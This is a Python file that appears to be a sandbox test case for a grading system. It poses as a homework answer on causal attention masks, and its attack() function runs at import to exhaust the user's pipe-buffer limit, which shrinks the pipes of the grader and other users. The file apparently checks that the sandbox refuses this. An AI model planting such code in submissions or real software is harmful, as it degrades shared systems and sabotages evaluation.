# attack: grows pipes to 1 MiB each (fcntl F_SETPIPE_SZ: Python's own fcntl; 64 of them reach it) up to its user's pipe-buffer soft limit (fs.pipe-user-pages-soft, 16,384 pages, counted per user, not per process), so that under an ordinary user every new pipe of the instructor's (the grader's own, a classmate's) gets a buffer of two pages instead of sixteen while it runs; imports and answers right only when a fresh pipe of its user got the small buffer
# expect: module=q01_causal_mask status=error match=Operation not permitted
# path: sandbox user
"""Question 1, written to shrink every new pipe of its user."""
import fcntl
import os

import torch
from torch import Tensor

F_SETPIPE_SZ, F_GETPIPE_SZ = 1031, 1032
HELD = []


def attack() -> None:
    """Pipes of 1 MiB (the largest an unprivileged process may ask) until the kernel refuses to grow one more (the
    user is near its soft limit), then pipes of the default size until a fresh one gets the small buffer: what the
    grader's next pipe gets."""
    while True:
        read_end, write_end = os.pipe()
        HELD.append((read_end, write_end))
        try:
            fcntl.fcntl(write_end, F_SETPIPE_SZ, 1 << 20)
        except PermissionError:
            if len(HELD) == 1:
                raise  # the first one already: refused, not the user's limit
            break
    for _ in range(64):  # the last grown pipe may have stopped a few pages short of the limit
        fresh = os.pipe()
        HELD.append(fresh)
        if fcntl.fcntl(fresh[1], F_GETPIPE_SZ) < 1 << 16:
            return
    raise OSError(f"a fresh pipe still has {fcntl.fcntl(fresh[1], F_GETPIPE_SZ)} bytes after {len(HELD)} pipes")


def prefix_average(x: Tensor) -> Tensor:
    """Row i of the result is the mean of rows 0..i of x: (..., T, d) -> (..., T, d)."""
    T = x.shape[-2]
    weights = torch.ones(T, T, dtype=x.dtype).tril()  # (T, T)
    return (weights / weights.sum(dim=-1, keepdim=True)) @ x  # (T, T) @ (..., T, d) -> (..., T, d)


def causal_mask(T: int) -> Tensor:
    """Boolean (T, T) table, True where key j may be seen by query i (j <= i)."""
    return torch.ones(T, T, dtype=torch.bool).tril()


def mask_scores(scores: Tensor, mask: Tensor) -> Tensor:
    """New tensor: scores where mask is True, -inf where it is False; (..., Tq, Tk), mask broadcasts."""
    return scores.masked_fill(~mask, float("-inf"))


attack()  # at import: every check of the question meets it
